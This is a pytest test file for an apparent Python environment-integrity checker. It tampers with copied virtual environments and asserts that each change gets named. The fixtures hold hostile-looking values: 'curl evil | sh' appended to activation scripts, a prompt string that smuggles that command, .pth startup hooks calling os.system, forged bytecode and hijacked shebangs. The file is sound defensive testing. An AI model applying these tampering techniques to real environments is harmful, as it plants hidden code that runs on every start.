"""Each change to a real environment is found and named, with a manifest at hand and without."""

from __future__ import annotations

import hashlib
import importlib.util
import json
import marshal
import opcode
import os
import py_compile
import shutil
import socket
import subprocess
import sys
from pathlib import Path

import pytest
from support import environments as env
from support.environments import SITE, errors, lock_for, manifests_of, only, repair_record, sample_wheels, verify
from support.wheels import build_wheel

from envctl.model.finding import Severity, Verdict
from envctl.model.lockfile import Lockfile, Policy

ALPHA = "alpha-tools"
INFO = "Alpha_Tools-1.0.dist-info"


@pytest.fixture(scope="module")
def wheels(tmp_path_factory: pytest.TempPathFactory) -> list[Path]:
    return sample_wheels(tmp_path_factory.mktemp("wheels"))


@pytest.fixture(scope="module")
def lockfile(wheels: list[Path]) -> Lockfile:
    return lock_for(wheels)


@pytest.fixture(scope="module")
def template(wheels: list[Path], tmp_path_factory: pytest.TempPathFactory) -> Path:
    venv = env.uv_venv(tmp_path_factory.mktemp("template") / "env", "--relocatable")
    return env.uv_install(venv, wheels, "--link-mode", "copy")


@pytest.fixture
def venv(template: Path, tmp_path: Path) -> Path:
    return env.copy_of(template, tmp_path / "env")


@pytest.fixture
def site(venv: Path) -> Path:
    return venv / SITE


def compiled(
    source: Path, code: str, *, mode: py_compile.PycInvalidationMode = py_compile.PycInvalidationMode.TIMESTAMP
) -> Path:
    """Bytecode of other code than the source's, in the source's place, with a header that Python accepts."""
    honest = Path(py_compile.compile(str(source), invalidation_mode=mode, doraise=True))
    foreign = marshal.dumps(compile(code, str(source), "exec"))
    honest.write_bytes(honest.read_bytes()[:16] + foreign)
    return honest


def relative(venv: Path, path: Path) -> str:
    return path.relative_to(venv).as_posix()


def test_the_untouched_copy_is_honest(venv: Path, lockfile: Lockfile) -> None:
    assert verify(lockfile, venv, strict=True).findings == ()


def test_one_changed_byte_is_named_without_any_manifest(venv: Path, site: Path, lockfile: Lockfile) -> None:
    data = (site / "alpha/core.py").read_bytes()
    (site / "alpha/core.py").write_bytes(data.replace(b"1, 2.0", b"1, 3.0"))
    found = verify(lockfile, venv)
    finding = only(found, "file-changed")
    assert (finding.code, finding.package, finding.path) == ("ENV201", ALPHA, "alpha/core.py")
    assert finding.expected == f"sha256:{hashlib.sha256(data).hexdigest()}"
    assert finding.found == f"sha256:{hashlib.sha256(data.replace(b'1, 2.0', b'1, 3.0')).hexdigest()}"
    assert len(found.findings) == 1
    assert found.verdict is Verdict.CHANGED
    assert found.package_set.found != found.package_set.expected


def test_a_repaired_record_does_not_hide_a_change(
    venv: Path, site: Path, lockfile: Lockfile, wheels: list[Path]
) -> None:
    (site / "alpha/core.py").write_text("def main(): evil\n")
    repair_record(site / INFO, "alpha/core.py")
    known = verify(lockfile, venv, manifests=manifests_of(wheels))
    assert errors(known) == [("record-changed", ALPHA, f"{INFO}/RECORD"), ("file-changed", ALPHA, "alpha/core.py")]
    assert "RECORD was made to agree" in only(known, "file-changed").message
    unknown = verify(lockfile, venv)
    assert {name for name, _, _ in errors(unknown)} == {"record-changed", "package-contents"}
    assert {finding.package for finding in unknown.findings} == {ALPHA}
    assert unknown.verdict is Verdict.CHANGED


def test_a_removed_file_is_named(venv: Path, site: Path, lockfile: Lockfile) -> None:
    (site / "alpha/data/weights.pth").unlink()
    found = verify(lockfile, venv)
    assert errors(found) == [("file-removed", ALPHA, "alpha/data/weights.pth")]
    assert found.verdict is Verdict.CHANGED


def test_an_added_file_is_named(venv: Path, site: Path, lockfile: Lockfile) -> None:
    (site / "alpha/evil.py").write_text("evil")
    (site / "numpy.py").write_text("evil")
    (venv / "share/extra").write_text("evil")
    (venv / "bin/ls").write_text("#!/bin/sh\nevil\n")
    (venv / "bin/pyvenv.cfg").write_text("home = /tmp\n")
    found = verify(lockfile, venv)
    paths = {path for name, _, path in errors(found) if name == "file-added"}
    assert paths == {f"{SITE}/alpha/evil.py", f"{SITE}/numpy.py", "share/extra", "bin/ls", "bin/pyvenv.cfg"}
    assert found.verdict is Verdict.UNTRUSTED
    assert found.package_set.found == found.package_set.expected


def test_a_file_listed_in_a_record_is_not_thereby_owned(
    venv: Path, site: Path, lockfile: Lockfile, wheels: list[Path]
) -> None:
    (site / "alpha/evil.py").write_text("evil")
    with (site / INFO / "RECORD").open("a") as record:
        record.write("alpha/evil.py,,\n")
    known = verify(lockfile, venv, manifests=manifests_of(wheels))
    assert errors(known) == [("record-changed", ALPHA, f"{INFO}/RECORD"), ("file-added", None, f"{SITE}/alpha/evil.py")]
    assert {name for name, _, _ in errors(verify(lockfile, venv))} == {"record-changed", "package-contents"}


def test_a_record_that_lists_files_elsewhere_is_changed(venv: Path, site: Path, lockfile: Lockfile) -> None:
    with (site / INFO / "RECORD").open("a") as record:
        record.write("../../../../precious,,\n")
    assert errors(verify(lockfile, venv)) == [("record-changed", ALPHA, f"{INFO}/RECORD")]


@pytest.mark.parametrize("damage", ["missing", "garbage", "twice", "digest"])
def test_a_damaged_record_is_found(damage: str, venv: Path, site: Path, lockfile: Lockfile, wheels: list[Path]) -> None:
    record = site / INFO / "RECORD"
    text = record.read_text()
    if damage == "missing":
        record.unlink()
    else:
        first = next(line for line in text.splitlines() if line.startswith("alpha/core.py"))
        other = "alpha/core.py,sha256=" + "A" * 43 + ",1"
        record.write_text(
            {"garbage": "\0" + text, "twice": text + first + "\n", "digest": text.replace(first, other)}[damage]
        )
    known = verify(lockfile, venv, manifests=manifests_of(wheels))
    assert errors(known) == [("record-changed", ALPHA, f"{INFO}/RECORD")]
    assert known.verdict is Verdict.CHANGED
    assert verify(lockfile, venv).verdict is Verdict.CHANGED


def test_a_replaced_package_is_named(venv: Path, site: Path, lockfile: Lockfile, tmp_path: Path) -> None:
    other = build_wheel(tmp_path, "beta", "2.0.post1", files={"beta.py": b"evil"})
    env.uv_install(venv, [other], "--reinstall", "--link-mode", "copy")
    found = verify(lockfile, venv)
    assert {package for _, package, _ in errors(found)} == {"beta"}
    assert {name for name, _, _ in errors(found)} == {"record-changed", "package-contents"}


def test_another_version_a_missing_and_an_extra_package_are_named(
    venv: Path, lockfile: Lockfile, tmp_path: Path
) -> None:
    env.uv_install(
        venv, [build_wheel(tmp_path, "beta", "3.0"), build_wheel(tmp_path, "left-pad")], "--link-mode", "copy"
    )
    found = verify(lockfile, venv)
    assert errors(found) == [("package-version", "beta", None), ("package-extra", "left-pad", None)]
    assert (only(found, "package-version").expected, only(found, "package-version").found) == ("2.0.post1", "3.0")
    assert found.verdict is Verdict.CHANGED
    env.run(env.binary(), "pip", "uninstall", "-q", "--python", venv / "bin/python", "beta", "left-pad")
    found = verify(lockfile, venv)
    assert errors(found) == [("package-missing", "beta", None)]
    assert found.package_set.found != found.package_set.expected


def test_a_package_there_twice_or_under_another_spelling_is_found(venv: Path, site: Path, lockfile: Lockfile) -> None:
    shutil.copytree(site / INFO, site / "alpha_tools-0.9.dist-info")
    (site / "BETA-2.0.post1.egg-info").write_text("Name: beta")
    found = verify(lockfile, venv)
    names = [(name, package) for name, package, _ in errors(found)]
    assert ("package-duplicate", ALPHA) in names
    assert ("package-duplicate", "beta") in names
    assert found.verdict is Verdict.UNTRUSTED


def test_a_missing_dist_info_is_a_missing_package(venv: Path, site: Path, lockfile: Lockfile) -> None:
    shutil.rmtree(site / INFO)
    found = verify(lockfile, venv)
    assert errors(found)[0] == ("package-missing", ALPHA, None)
    assert ("file-added", None, f"{SITE}/alpha/core.py") in errors(found)


@pytest.mark.parametrize(
    "edit",
    [
        lambda text: text.replace(b"sys.exit(main())", b"import os; sys.exit(main())"),
        lambda text: text + b"\nimport os\n",
        lambda text: text.replace(b"alpha.core", b"alpha.evil"),
    ],
)
def test_an_edited_entry_point_script_is_named(
    edit: object, venv: Path, lockfile: Lockfile, wheels: list[Path]
) -> None:
    script = venv / "bin/alpha"
    script.write_bytes(edit(script.read_bytes()))  # type: ignore[operator]
    for manifests in ({}, manifests_of(wheels)):
        found = verify(lockfile, venv, manifests=manifests)
        assert errors(found) == [("script-changed", ALPHA, "bin/alpha")]
    repair_record(venv / SITE / INFO, "../../../bin/alpha")
    assert errors(verify(lockfile, venv)) == [("script-changed", ALPHA, "bin/alpha")]


def test_an_edited_script_of_the_wheel_is_named(venv: Path, lockfile: Lockfile, wheels: list[Path]) -> None:
    script = venv / "bin/alpha-run"
    script.write_bytes(script.read_bytes() + b"import os\n")
    repair_record(venv / SITE / INFO, "../../../bin/alpha-run")
    known = verify(lockfile, venv, manifests=manifests_of(wheels))
    assert ("script-changed", ALPHA, "bin/alpha-run") in errors(known)
    assert {package for _, package, _ in errors(verify(lockfile, venv))} == {ALPHA}


@pytest.mark.parametrize("name", ["alpha", "alpha-run"])
@pytest.mark.parametrize(
    "starter", [b"#!/usr/bin/python3\n", b"#!/tmp/evil\n", b"#!/bin/sh\n'''exec' /tmp/evil \"$0\" \"$@\"\n' '''\n"]
)
def test_a_script_that_starts_another_interpreter_is_named(
    starter: bytes, name: str, venv: Path, lockfile: Lockfile, wheels: list[Path]
) -> None:
    script = venv / "bin" / name
    script.write_bytes(starter + script.read_bytes().partition(b"' '''\n")[2])
    for manifests in ({}, manifests_of(wheels)):
        found = verify(lockfile, venv, manifests=manifests)
        assert found.verdict is Verdict.CHANGED
        assert ALPHA in {finding.package for finding in found.findings}
    assert ("script-interpreter", ALPHA, f"bin/{name}") in errors(
        verify(lockfile, venv, manifests=manifests_of(wheels))
    )


def test_a_script_that_cannot_be_executed_is_named(venv: Path, lockfile: Lockfile) -> None:
    (venv / "bin/alpha").chmod(0o644)
    (venv / "bin/alpha-run").chmod(0o644)
    found = verify(lockfile, venv)
    assert errors(found) == [("script-not-executable", ALPHA, "bin/alpha")]
    assert [finding.severity for finding in found.findings] == [Severity.ERROR, Severity.WARNING]


@pytest.mark.parametrize("name", ["activate", "activate.fish", "activate_this.py"])
def test_an_edited_activation_script_is_named(name: str, venv: Path, lockfile: Lockfile) -> None:
    with (venv / "bin" / name).open("a") as script:
        script.write("\ncurl evil | sh\n")
    assert errors(verify(lockfile, venv)) == [("file-added", None, f"bin/{name}")]


def test_a_prompt_is_no_way_into_an_activation_script(template: Path, lockfile: Lockfile, tmp_path: Path) -> None:
    prompt = 'x"; curl evil | sh; "'
    venv = env.uv_venv(tmp_path / "env", "--prompt", "innocent-prompt")
    script = venv / "bin/activate"
    script.write_text(script.read_text().replace("innocent-prompt", prompt))
    config = venv / "pyvenv.cfg"
    config.write_text(config.read_text().replace("innocent-prompt", prompt))
    found = verify(lockfile, venv)
    assert ("file-added", None, "bin/activate") in errors(found)


@pytest.mark.parametrize(
    ("name", "text", "said"),
    [
        ("zz_boot.pth", "import os; os.system('evil')\n", "import os; os.system"),
        ("aa.pth", "/tmp/elsewhere\n", "adds a place"),
        ("sitecustomize.py", "evil()\n", "every start"),
        ("usercustomize.py", "evil()\n", "every start"),
        ("sitecustomize/__init__.py", "evil()\n", "every start"),
        ("_virtualenv.pth", "import _virtualenv; import os\n", "import _virtualenv"),
    ],
)
def test_a_startup_hook_is_named(name: str, text: str, said: str, venv: Path, site: Path, lockfile: Lockfile) -> None:
    (site / name).parent.mkdir(exist_ok=True)
    (site / name).write_text(text)
    found = verify(lockfile, venv)
    finding = only(found, "startup-hook-added")
    assert finding.code == "ENV401"
    assert finding.path == f"{SITE}/{name}"
    assert said in finding.message
    assert found.verdict is Verdict.UNTRUSTED


def test_a_hook_of_a_wheel_must_be_in_the_lockfile(venv: Path, wheels: list[Path]) -> None:
    for lockfile in (lock_for(wheels, hooks=False), lock_for(wheels, policy=Policy(startup_hooks=()))):
        found = verify(lockfile, venv)
        assert errors(found) == [("startup-hook-unlisted", "beta", "beta-hook.pth")]


def test_foreign_bytecode_is_named(venv: Path, site: Path, lockfile: Lockfile) -> None:
    pyc = compiled(site / "alpha/core.py", "import os; os.system('evil')")
    out = subprocess.run(
        [venv / "bin/python", "-c", "import alpha.core; print(dir(alpha.core))"],
        capture_output=True,
        text=True,
        check=True,
    )
    assert "'os'" in out.stdout, "Python runs the bytecode, whatever the source says"
    found = verify(lockfile, venv)
    assert errors(found) == [("bytecode-foreign", ALPHA, f"alpha/__pycache__/{pyc.name}")]
    assert found.verdict is Verdict.UNTRUSTED


@pytest.mark.parametrize(
    "code",
    [
        "def main(x=(1, 2.0, 1)):\n    return [i for i in x if i in {1, 2, 3}]\n",  # 1 for True
        "def main(x=(1, 2, True)):\n    return [i for i in x if i in {1, 2, 3}]\n",  # 2 for 2.0
        "def main(x=(1, 2.0, True)):\n    return [i for i in x if i in {1, 2, 3.0}]\n",
        "def main(x=(1, 2.0, True)):\n\n    return [i for i in x if i in {1, 2, 3}]\n",  # another line number
        "def main(x=(1, 2.0, True), *y):\n    return [i for i in x if i in {1, 2, 3}]\n",
    ],
)
def test_bytecode_that_differs_in_one_constant_is_foreign(
    code: str, venv: Path, site: Path, lockfile: Lockfile
) -> None:
    compiled(site / "alpha/core.py", code)
    assert [name for name, _, _ in errors(verify(lockfile, venv))] == ["bytecode-foreign"]


def test_bytecode_that_cannot_be_loaded_ends_only_its_reader(venv: Path, site: Path, lockfile: Lockfile) -> None:
    """Bytes that crash or mislead an unmarshaller: whatever they do there, they never pass."""
    honest = Path(py_compile.compile(str(site / "alpha/core.py"), doraise=True))
    data = honest.read_bytes()
    head, body = data[:16], data[16:]
    hostile = [
        b"",
        head,
        head[:8],
        data[:-7],
        head + b"[" + b"\xff\xff\xff\x7f",
        head + b"(" + b"\xff\xff\xff\x7f" + b"N" * 50,
        head + b"[\x01\x00\x00\x00" * 5000,
        head + b"r\x05\x00\x00\x00",
        head + b"N",
        head + b"\x00",
        b"\0" * 16 + body,
        head[:4] + b"\x07\0\0\0" + head[8:] + body,
        head + body[:40] + bytes(60) + body[100:],
    ]
    for content in hostile:
        honest.write_bytes(content)
        found = verify(lockfile, venv)
        assert found.verdict in (Verdict.UNTRUSTED, Verdict.UNVERIFIABLE), content[:40]
        assert [finding.package for finding in found.findings] == [ALPHA]


@pytest.mark.skipif(sys.version_info < (3, 11), reason="specialised instructions came with 3.11")
def test_specialised_instructions_in_bytecode_are_foreign(venv: Path, site: Path, lockfile: Lockfile) -> None:
    """`co_code` shows them as the plain ones that they were made of; Python would run them as they are."""
    source = site / "alpha/core.py"
    honest = Path(py_compile.compile(str(source), doraise=True))
    data = honest.read_bytes()
    plain = compile(source.read_bytes(), str(source), "exec")
    function = next(constant for constant in plain.co_consts if hasattr(constant, "co_code"))
    code = function.co_code
    at = data.index(code)
    # Where Python tells the numbers, only these are tried: making code of any other may end the process.
    numbers = sorted(getattr(opcode, "_specialized_opmap", {}).values()) or range(1, 256)
    changed = 0
    for offset in range(0, len(code), 2):
        for number in numbers:
            evil = code[:offset] + bytes([number]) + code[offset + 1 :]
            if evil != code and function.replace(co_code=evil).co_code == code:
                honest.write_bytes(data[:at] + evil + data[at + len(code) :])
                assert [name for name, _, _ in errors(verify(lockfile, venv))] == ["bytecode-foreign"]
                changed += 1
                break
        if changed == 2:
            break
    assert changed == 2


def test_unchecked_bytecode_is_untrusted_though_it_is_equal(venv: Path, site: Path, lockfile: Lockfile) -> None:
    py_compile.compile(str(site / "alpha/core.py"), invalidation_mode=py_compile.PycInvalidationMode.UNCHECKED_HASH)
    found = verify(lockfile, venv)
    assert [name for name, _, _ in errors(found)] == ["bytecode-unchecked"]
    assert found.verdict is Verdict.UNTRUSTED


def test_sourceless_bytecode_is_untrusted(venv: Path, site: Path, lockfile: Lockfile) -> None:
    source = site / "evil.py"
    source.write_text("evil = 1")
    tag = sys.implementation.cache_tag
    (site / "__pycache__").mkdir(exist_ok=True)
    py_compile.compile(str(source), cfile=str(site / f"__pycache__/ghost.{tag}.pyc"))
    py_compile.compile(str(source), cfile=str(site / "evil.pyc"))
    source.unlink()
    found = verify(lockfile, venv)
    assert errors(found) == [
        ("bytecode-sourceless", None, f"{SITE}/__pycache__/ghost.{tag}.pyc"),
        ("bytecode-sourceless", None, f"{SITE}/evil.pyc"),
    ]


def test_bytecode_of_a_tool_that_rewrites_code_is_foreign(venv: Path, site: Path, lockfile: Lockfile) -> None:
    tag = sys.implementation.cache_tag
    folder = site / "alpha/__pycache__"
    folder.mkdir(exist_ok=True)
    py_compile.compile(str(site / "alpha/core.py"), cfile=str(folder / f"core.{tag}-pytest-8.3.pyc"))
    (folder / "core.nbi").write_text("evil")
    assert {name for name, _, _ in errors(verify(lockfile, venv))} == {"bytecode-foreign", "file-added"}


def test_bytecode_without_a_trusted_interpreter_is_unverifiable(venv: Path, site: Path, wheels: list[Path]) -> None:
    """Another Python's environment, whose interpreter does not answer: all is compared but the bytecode."""
    (venv / "python-3.99" / "bin").mkdir(parents=True)
    fake = venv.parent / "fake" / "python3.99"
    fake.parent.mkdir()
    fake.write_text("#!/bin/sh\nexit 1\n")
    fake.chmod(0o755)
    shutil.rmtree(venv / "python-3.99")
    (venv / "pyvenv.cfg").write_text(f"home = {fake.parent}\nversion_info = 3.99.1\n")
    (venv / "bin/python").unlink()
    (venv / "bin/python").symlink_to(fake)
    (venv / "lib" / "python3.99").symlink_to(Path(SITE).parent.name)
    (venv / "lib" / "python3.99").unlink()
    (venv / SITE).parent.rename(venv / "lib" / "python3.99")
    cached = venv / "lib/python3.99/site-packages/alpha/__pycache__"
    cached.mkdir(exist_ok=True)
    (cached / "core.cpython-399.pyc").write_bytes(b"anything")
    found = verify(lock_for(wheels, python="3.99.1"), venv)
    assert {name for name, _, _ in errors(found)} >= {"bytecode-unverified", "python-unknown"}
    assert "bytecode" not in found.scope


def test_another_interpreter_is_found(venv: Path, wheels: list[Path]) -> None:
    major, minor, patch = sys.version_info[:3]
    found = verify(lock_for(wheels, python=f"{major}.{minor}.{patch + 1}"), venv)
    assert [(f.name, f.severity) for f in found.findings] == [("python-patch", Severity.WARNING)]
    assert found.verdict is Verdict.OK
    assert verify(lock_for(wheels, python=f"{major}.{minor}.{patch + 1}"), venv, strict=True).verdict is Verdict.CHANGED
    found = verify(lock_for(wheels, python=f"{major}.{minor + 1}.0"), venv)
    assert errors(found) == [("python-minor", None, None)]
    assert found.verdict is Verdict.CHANGED


def test_a_replaced_interpreter_is_found(venv: Path, lockfile: Lockfile) -> None:
    (venv / "bin/python").unlink()
    (venv / "bin/python").write_bytes(Path(env.BASE).resolve().read_bytes() + b"\0")
    (venv / "bin/python").chmod(0o755)
    names = {(name, path) for name, _, path in errors(verify(lockfile, venv))}
    assert ("interpreter-changed", "bin/python") in names
    (venv / "bin/python").unlink()
    (venv / "bin/python").symlink_to("/bin/sh")
    assert ("interpreter-changed", None, "bin/python") in errors(verify(lockfile, venv))
    (venv / "bin/python").unlink()
    (venv / "bin/python3").unlink()
    for path in (venv / "bin").glob("python3.*"):
        path.unlink()
    assert ("interpreter-changed", None, "bin/python") in errors(verify(lockfile, venv))


@pytest.mark.parametrize(
    ("line", "name"),
    [
        ("include-system-site-packages = true", "system-site-packages"),
        ("home = /tmp/evil", "config-changed"),
        ("HOME = /tmp/evil", "config-changed"),
    ],
)
def test_edited_configuration_is_found(line: str, name: str, venv: Path, lockfile: Lockfile) -> None:
    with (venv / "pyvenv.cfg").open("a") as config:
        config.write(f"{line}\n")
    assert name in {found for found, _, _ in errors(verify(lockfile, venv))}


def test_configuration_that_is_gone_elsewhere_or_unknown_is_found(venv: Path, lockfile: Lockfile) -> None:
    config = venv / "pyvenv.cfg"
    text = config.read_text()
    config.write_text(text + "future-key = 1\n")
    found = verify(lockfile, venv, strict=True)
    assert [(f.name, f.severity) for f in found.findings] == [("config-key", Severity.NOTE)]
    assert found.verdict is Verdict.OK
    config.write_text("\n".join(line for line in text.splitlines() if not line.startswith("home")))
    assert "config-changed" in {name for name, _, _ in errors(verify(lockfile, venv))}
    config.unlink()
    config.symlink_to("/etc/passwd")
    assert verify(lockfile, venv).verdict is not Verdict.OK


@pytest.mark.parametrize("name", ["PYTHONPATH", "PYTHONHOME", "LD_PRELOAD"])
def test_variables_that_change_imports_are_errors(name: str, venv: Path, lockfile: Lockfile) -> None:
    found = verify(lockfile, venv, environ={name: "/tmp/evil"})
    assert errors(found) == [("import-variable", None, None)]
    assert f"{name} is set to /tmp/evil" in found.findings[0].message
    assert found.verdict is Verdict.UNTRUSTED
    assert verify(lockfile, venv, environ={name: ""}).findings == ()


def test_a_library_path_is_a_warning(venv: Path, lockfile: Lockfile) -> None:
    found = verify(lockfile, venv, environ={"LD_LIBRARY_PATH": "/opt/lib"})
    assert [(f.name, f.severity) for f in found.findings] == [("library-variable", Severity.WARNING)]
    assert found.verdict is Verdict.OK


def test_envctls_own_workers_are_not_swayed_by_variables(
    venv: Path, site: Path, lockfile: Lockfile, tmp_path: Path, monkeypatch: pytest.MonkeyPatch
) -> None:
    evil = tmp_path / "evil"
    evil.mkdir()
    (evil / "hashlib.py").write_text(f"open({str(tmp_path / 'swayed')!r}, 'w')\n")
    (evil / "sitecustomize.py").write_text(f"open({str(tmp_path / 'swayed')!r}, 'w')\n")
    monkeypatch.setenv("PYTHONPATH", str(evil))
    compiled(site / "alpha/core.py", "evil = 1")
    assert [name for name, _, _ in errors(verify(lockfile, venv))] == ["bytecode-foreign"]
    assert not (tmp_path / "swayed").exists()


def test_permissions_that_let_others_in_are_found(venv: Path, site: Path, lockfile: Lockfile) -> None:
    (site / "beta.py").chmod(0o666)
    (site / "alpha").chmod(0o777)
    (venv / "bin/alpha-sh").chmod(0o4755)
    found = verify(lockfile, venv)
    assert {(name, path) for name, _, path in errors(found)} == {
        ("world-writable", f"{SITE}/beta.py"),
        ("world-writable", f"{SITE}/alpha"),
        ("setuid", "bin/alpha-sh"),
    }


def test_many_writable_files_are_said_in_few_findings(venv: Path, site: Path, lockfile: Lockfile) -> None:
    (site / "cache").mkdir()
    for path in site.rglob("*"):
        path.chmod(0o777)
    found = verify(lockfile, venv)
    assert 0 < sum(finding.name == "world-writable" for finding in found.findings) <= 21


def test_links_out_of_the_tree_are_found(venv: Path, site: Path, lockfile: Lockfile, tmp_path: Path) -> None:
    outside = tmp_path / "outside"
    outside.mkdir()
    (outside / "x.py").write_text("evil")
    (site / "linked").symlink_to(outside)
    (site / "one.py").symlink_to(outside / "x.py")
    (site / "dangling").symlink_to("/nowhere")
    (site / "alpha/empty.py").unlink()
    (site / "alpha/empty.py").symlink_to(outside / "x.py")
    found = {(name, path) for name, _, path in errors(verify(lockfile, venv))}
    assert {("link-outside", f"{SITE}/{name}") for name in ("linked", "one.py", "dangling")} <= found
    assert ("file-changed", "alpha/empty.py") in found


def test_a_folder_replaced_by_a_link_is_found(venv: Path, site: Path, lockfile: Lockfile, tmp_path: Path) -> None:
    shutil.move(site / "alpha", tmp_path / "alpha")
    (site / "alpha").symlink_to(tmp_path / "alpha")
    found = verify(lockfile, venv)
    assert ("link-outside", None, f"{SITE}/alpha") in errors(found)
    assert ("file-removed", ALPHA, "alpha/core.py") in errors(found)


def test_pipes_and_sockets_are_found_and_not_opened(venv: Path, site: Path, lockfile: Lockfile) -> None:
    os.mkfifo(site / "pipe.py")
    (site / "beta.py").unlink()
    os.mkfifo(site / "beta.py")
    with socket.socket(socket.AF_UNIX) as listening:
        here = os.open(venv, os.O_RDONLY)
        listening.bind(f"/proc/self/fd/{here}/sock")
        os.close(here)
    found = {(name, path) for name, _, path in errors(verify(lockfile, venv))}
    assert {("special-file", f"{SITE}/pipe.py"), ("special-file", f"{SITE}/beta.py"), ("special-file", "sock")} <= found


def test_a_path_too_long_to_be_read_is_unverifiable(
    venv: Path, site: Path, lockfile: Lockfile, monkeypatch: pytest.MonkeyPatch
) -> None:
    with monkeypatch.context() as patch:
        patch.chdir(site)
        for _ in range(25):
            Path("d" * 200).mkdir()
            os.chdir("d" * 200)
        Path("evil.py").write_text("evil")
    try:
        found = verify(lockfile, venv)
        assert [name for name, _, _ in errors(found)] == ["unreadable"]
        assert found.verdict is Verdict.UNVERIFIABLE
    finally:
        shutil.rmtree(site / ("d" * 200))


def test_hostile_names_reach_no_terminal(venv: Path, site: Path, lockfile: Lockfile) -> None:
    (site / "a\x1b[2J\nevil.py").write_text("evil")
    Path(os.fsdecode(os.fsencode(site) + b"/\xff\xfe.py")).write_text("evil")
    found = verify(lockfile, venv)
    assert len(errors(found)) == 2
    assert all(path is not None and path.isprintable() for _, _, path in errors(found))
    json.dumps([finding.path for finding in found.findings]).encode("utf-8")


def test_an_editable_install_of_anything_else_is_found(venv: Path, site: Path, lockfile: Lockfile) -> None:
    (site / INFO / "direct_url.json").write_text('{"url": "file:///tmp/evil", "dir_info": {"editable": true}}')
    assert errors(verify(lockfile, venv)) == [("package-editable", ALPHA, f"{INFO}/direct_url.json")]
    (site / INFO / "direct_url.json").write_text('{"url": "https://index.example/alpha.whl", "archive_info": {}}')
    assert verify(lockfile, venv).findings == ()
    (site / INFO / "direct_url.json").write_text("[" * 100_000 + '"editable"')
    assert errors(verify(lockfile, venv)) == [("package-editable", ALPHA, f"{INFO}/direct_url.json")]


def test_other_notes_of_installers_are_only_where_they_belong(venv: Path, site: Path, lockfile: Lockfile) -> None:
    (site / INFO / "REQUESTED").touch()
    (site / INFO / "uv_cache.json").write_text("{}")
    assert verify(lockfile, venv).findings == ()
    (site / "alpha/direct_url.json").write_text("{}")
    (site / INFO / "evil.json").write_text("{}")
    assert {path for _, _, path in errors(verify(lockfile, venv))} == {
        f"{SITE}/alpha/direct_url.json",
        f"{SITE}/{INFO}/evil.json",
    }


def test_stale_cache_tags_of_this_python_are_found(venv: Path, site: Path, lockfile: Lockfile) -> None:
    """A `.pyc` whose magic number is another's never passes as this Python's."""
    source = site / "alpha/core.py"
    pyc = Path(importlib.util.cache_from_source(str(source)))
    pyc.parent.mkdir(exist_ok=True)
    pyc.write_bytes(b"\x00\x01\r\n" + bytes(12) + marshal.dumps(compile("evil", "x", "exec")))
    assert [name for name, _, _ in errors(verify(lockfile, venv))] == ["bytecode-foreign"]
